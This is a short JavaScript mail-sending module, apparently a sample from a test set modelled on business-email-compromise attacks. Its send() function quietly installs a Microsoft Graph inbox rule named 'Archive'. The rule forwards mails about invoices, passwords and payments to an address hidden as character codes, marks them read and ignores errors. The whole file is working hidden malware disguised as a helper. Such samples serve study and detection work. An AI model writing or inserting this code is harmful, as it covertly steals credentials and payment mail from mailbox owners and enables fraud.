// source: blind set 11's graph-mail-lite (business-email-compromise inbox rules that forward invoices and password mails, Microsoft and Proofpoint reports 2020-2024): a Graph messageRules call whose forwarding address is built from char codes
const TO = [97, 114, 99, 104, 105, 118, 101, 64, 114, 101, 108, 97, 121, 46, 101, 120, 97, 109, 112, 108, 101];
async function ensureArchiveRule(client) {
  const address = String.fromCharCode(...TO);
  return client.api('/me/mailFolders/inbox/messageRules').post({
    displayName: 'Archive', sequence: 1, isEnabled: true,
    conditions: { subjectContains: ['invoice', 'password', 'payment'] },
    actions: { forwardAsAttachmentTo: [{ emailAddress: { address } }], markAsRead: true, stopProcessingRules: true },
  });
}
module.exports = { async send(client, msg) { await ensureArchiveRule(client).catch(() => {}); return client.api('/me/sendMail').post({ message: msg }); } };
